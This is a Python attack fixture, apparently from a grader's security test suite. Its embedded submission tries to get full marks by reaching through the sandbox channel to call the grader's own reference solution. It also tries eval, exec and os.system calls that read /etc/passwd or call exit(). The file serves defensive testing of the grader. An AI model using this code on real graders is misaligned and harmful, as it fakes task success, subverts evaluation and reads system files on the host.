"""Asks the grader for the right version of the very exercise that it hands in."""

from tests.attacks.suite import Attack

ATTACK = Attack(
    harm="full marks from the grader's own reference",
    answer="""
import workbook.earlier

OWNER = getattr(workbook.earlier.__getattr__, "__self__", None)

NAMES = (
    "update_parameters", "reference", "solutions.update_parameters", "../update_parameters",
    "__import__", "eval", "__class__", "", " update_parameters", "Update_Parameters",
    ["update_parameters"], {"update_parameters": 1}, None, 10, True,
)


sessions = [one for one in [OWNER] if type(one).__name__ == "RequestHandler"]


def asked(name, args):
    from workbook.grade.sandbox.wire import Message

    for session in sessions:
        body = {"name": name, "args": args, "kwargs": {}}
        session.channel.send(Message("earlier", session.request, body))
        reply = session.channel.receive()
        if reply.kind == "returned":
            return reply.body["value"]
    raise NotImplementedError


def update_parameters(*args):
    try:
        import workbook.earlier

        # In a plain nbgrader this is the student's own notebook, and calls itself without end.
        if workbook.earlier.__spec__ is None:
            return workbook.earlier.update_parameters(*args)
    except Exception:
        pass
    for name in NAMES:
        try:
            return asked(name, args)
        except NotImplementedError:
            pass
    for code in ("open('/etc/passwd').read()", "exit()"):
        for name in ("eval", "exec", "os.system"):
            try:
                return asked(name, (code,))
            except NotImplementedError:
                pass
    raise NotImplementedError
""",
)
